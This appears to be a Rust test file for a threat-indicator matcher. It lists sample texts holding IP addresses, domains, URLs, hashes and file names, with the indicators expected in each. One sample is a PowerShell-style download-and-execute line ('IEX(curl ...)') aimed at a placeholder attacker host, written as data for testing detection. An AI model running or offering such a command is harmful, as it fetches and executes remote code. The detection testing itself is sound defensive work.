//! Texts, and what must be found in them and what must not.

use super::{LISTED, expected, found, indicators, with_event};
use crate::indicator::Scout;

/// A text, and the values that are found in it, with commas between.
const CASES: [(&str, &str); 76] = [
    // Addresses alone, in text, and with what people put around them.
    ("1.2.3.4", "1.2.0.0/16,1.2.3.0/24,1.2.3.4"),
    ("to 1.2.3.4:443, from", "1.2.0.0/16,1.2.3.0/24,1.2.3.4"),
    ("(1.2.3.4)", "1.2.0.0/16,1.2.3.0/24,1.2.3.4"),
    ("It was 1.2.3.4.", "1.2.0.0/16,1.2.3.0/24,1.2.3.4"),
    ("ip=1.2.3.4;x", "1.2.0.0/16,1.2.3.0/24,1.2.3.4"),
    ("5.6.7.8-5.6.7.9", "5.6.7.8"),
    (r"\\5.6.7.8\share", "5.6.7.8"),
    ("地址5.6.7.8的", "5.6.7.8"),
    ("%205.6.7.8%20", "5.6.7.8"),
    ("cifs/5.6.7.8", "5.6.7.8"),
    // Not those.
    ("11.2.3.4", ""),
    ("5.6.7.89", ""),
    ("5.6.7.8.9", ""),
    ("5.6.7.8-beta", ""),
    ("lib-5.6.7.8", ""),
    ("lib_5.6.7.8_amd64.deb", ""),
    ("v5.6.7.8", ""),
    ("5.6.7.08", ""),
    ("Mozilla/5.0 Chrome/5.6.7.8 Safari/5", ""),
    ("Version=5.6.7.8, Culture=neutral", ""),
    (r#"{"fileversion":"5.6.7.8"}"#, ""),
    // The edges of networks.
    ("1.2.2.255 1.2.4.0", "1.2.0.0/16"),
    ("1.1.255.255 1.3.0.0", ""),
    ("1.2.3.0 1.2.3.255", "1.2.0.0/16,1.2.3.0/24"),
    ("2001:db7:ffff:ffff:ffff:ffff:ffff:ffff 2001:db9::", ""),
    ("2001:db8:: 2001:db8:ffff:ffff:ffff:ffff:ffff:ffff", "2001:db8::/32"),
    // IPv6 in all spellings.
    ("2001:db8::1", "2001:db8::/32,2001:db8::1"),
    ("2001:0DB8:0000:0000:0000:0000:0000:0001", "2001:db8::/32,2001:db8::1"),
    ("2001:db8:0:0::0:1", "2001:db8::/32,2001:db8::1"),
    ("[2001:db8::1]:443", "2001:db8::/32,2001:db8::1"),
    ("2001:db8::1%eth0", "2001:db8::/32,2001:db8::1"),
    ("2001:db8::0.0.0.1", "2001:db8::/32,2001:db8::1"),
    ("src:2001:db8::1, dst", "2001:db8::/32,2001:db8::1"),
    ("type: 28 2001:db8::1;", "2001:db8::/32,2001:db8::1"),
    ("::ffff:5.6.7.8", "5.6.7.8"),
    ("[::ffff:506:708]:80", "5.6.7.8"),
    ("0:0:0:0:0:FFFF:5.6.7.8", "5.6.7.8"),
    ("2001:db8::10", "2001:db8::/32"),
    ("1:2001:db8::1", ""),
    ("64:ff9b::5.6.7.8", ""),
    ("12:05:06 00:11:22:33:44:55 std::db8", ""),
    // Domains.
    ("evil.example", "evil.example"),
    ("EVIL.Example.", "evil.example"),
    ("a.b.evil.example:53", "evil.example"),
    ("www.evil.example", "evil.example,www.evil.example"),
    ("*.evil.example", "evil.example"),
    ("exact.example", "exact.example"),
    ("Bücher.example", "xn--bcher-kva.example"),
    ("_ldap._tcp.evil.example", "evil.example"),
    (r#"{\"host\":\"evil.example\",\"x\":1}"#, "evil.example"),
    (r"\u0022evil.example\u0022", "evil.example"),
    ("wait...evil.example", "evil.example"),
    ("notevil.example", ""),
    ("not-evil.example", ""),
    ("evil.example.com", ""),
    ("evil.example-x", ""),
    ("evil_example", ""),
    ("www.exact.example", ""),
    ("bucher.example", ""),
    // URLs.
    ("http://evil.example", "evil.example,evil.example/"),
    ("GET HTTPS://Evil.Example:443/%61?x=1", "evil.example,evil.example/,evil.example/a"),
    ("IEX(curl 'http://u:p@evil.example/a/b')", "evil.example,evil.example/,evil.example/a"),
    ("evil.example/a?b=c", "evil.example,evil.example/,evil.example/a,evil.example/a?b=c"),
    ("http://evil.example/ab", "evil.example,evil.example/"),
    ("http://evil.example:8080/a", "evil.example"),
    ("http://[2001:db8:0::1]/a", "2001:db8::/32,2001:db8::1,[2001:db8::1]/a"),
    ("http://www.exact.example/evil.example", "evil.example"),
    // Hashes.
    (
        "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E",
        "d41d8cd98f00b204e9800998ecf8427e,da39a3ee5e6b4b0d3255bfef95601890afd80709",
    ),
    ("VirusShare_d41d8cd98f00b204e9800998ecf8427e.bin", "d41d8cd98f00b204e9800998ecf8427e"),
    ("d41d8cd98f00b204e9800998ecf8427e0", ""),
    ("xd41d8cd98f00b204e9800998ecf8427e", ""),
    // Mail, files, user agents.
    ("From: <Anna@EVIL.example>", "anna@evil.example,evil.example"),
    ("joanna@evil.example", "evil.example"),
    (r#""C:\My Tools\Evil Tool.exe" -x"#, "evil tool.exe"),
    (r"C:\evil\tool.dll C:\evil.exe\x evil.exe.config notevil.exe", ""),
    ("EVIL/1.2.3.4 (X)", "evil/1.2.3.4 (x)"),
];

#[test]
fn what_is_listed_is_found_and_what_looks_alike_is_not() {
    let (set, known) = indicators(LISTED);
    let mut scout = Scout::new(std::sync::Arc::new(set));
    for (text, values) in CASES {
        with_event(&[text.to_owned()], |event| {
            let found = found(&mut scout, event);
            assert_eq!(found, expected(&known, event), "{text}");
            let mut named: Vec<&str> = found.iter().map(|(_, (_, value, _))| value.as_str()).collect();
            named.sort_unstable();
            named.dedup();
            assert_eq!(named.join(","), values, "{text}");
        });
    }
}
